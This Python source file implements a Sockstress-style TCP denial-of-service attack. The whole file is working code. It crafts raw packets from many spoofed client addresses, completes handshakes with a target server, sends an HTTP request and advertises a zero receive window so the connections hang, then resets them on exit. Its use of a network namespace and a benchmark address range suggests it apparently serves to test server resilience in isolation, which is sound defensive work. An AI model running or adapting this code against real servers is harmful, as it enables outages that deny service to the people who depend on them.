# SPDX-License-Identifier: BSD-3-Clause
"""Connections that are opened to be held: a handshake, a request, and no window for the answer.

The attacker keeps no state but what is needed to end it all: he answers what comes.
"""
import contextlib
import ipaddress
import json
import socket
import struct
import threading
import time

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
NETWORK = ipaddress.ip_network("198.18.64.0/24")
REQUEST = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"


def internet_sum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


class Sockstress:
    """In the with: open() connections, reset() them all. opened: those whose handshake is done."""

    def __init__(self, namespace, interface, server, port, mac):
        self.server, self.port = socket.inet_aton(server), port
        link = json.loads(namespace.run("ip", "-j", "link", "show", interface).stdout)[0]
        self.header = bytes.fromhex((mac + link["address"]).replace(":", "")) + b"\x08\x00"
        self.sock = namespace.socket(socket.AF_PACKET, socket.SOCK_RAW)
        with namespace.entered():
            self.sock.bind((interface, 0x0800))
        self.sock.settimeout(0.1)
        self.opened = {}  # (address, port) -> our next number and what the server sent last
        self.over = threading.Event()
        self.thread = threading.Thread(target=self._answer)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.over.set()
        self.thread.join(10)
        self.sock.close()

    def open(self, count):
        """SYNs of so many clients, again for those who were not answered."""
        for _ in range(3):
            for client in self._clients(count):
                if client not in self.opened:
                    self._send(client, SYN, 1000, 0)
                    time.sleep(0.0002)
            time.sleep(0.3)

    def reset(self):
        """More than once: a RST that is lost is not missed by anybody."""
        for _ in range(3):
            for client, (seq, _) in list(self.opened.items()):
                self._send(client, RST, seq, 0)
                time.sleep(0.0001)
            time.sleep(0.1)

    @staticmethod
    def _clients(count):
        for number in range(count):
            yield NETWORK[1 + number % 250].packed, 10000 + number // 250

    def _send(self, client, flags, seq, ack, payload=b""):
        address, port = client
        tcp = struct.pack("!HHIIBBHHH", port, self.port, seq, ack, 0x50, flags, 0, 0, 0) + payload
        pseudo = address + self.server + struct.pack("!HH", 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", internet_sum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, address,
                         self.server)
        ip = ip[:10] + struct.pack("!H", internet_sum(ip)) + ip[12:]
        with contextlib.suppress(OSError):
            self.sock.send(self.header + ip + tcp)

    def _answer(self):
        while not self.over.is_set():
            with contextlib.suppress(TimeoutError):
                self._take(self.sock.recv(2048)[14:])

    def _take(self, packet):
        """A SYN-ACK gets its ACK and the request; what asks for a window is told that there is none."""
        client = packet[16:20], struct.unpack("!H", packet[22:24])[0]
        if packet[12:16] != self.server or ipaddress.ip_address(client[0]) not in NETWORK:
            return
        seq, _, _, flags = struct.unpack("!IIBB", packet[24:34])
        if flags & RST:
            self.opened.pop(client, None)
        elif flags & SYN:
            end = 1001 + len(REQUEST)
            self.opened[client] = end, seq + 1 & 0xffffffff
            self._send(client, ACK | PSH, 1001, seq + 1 & 0xffffffff, REQUEST)
        elif client in self.opened:
            self._send(client, ACK, *self.opened[client])
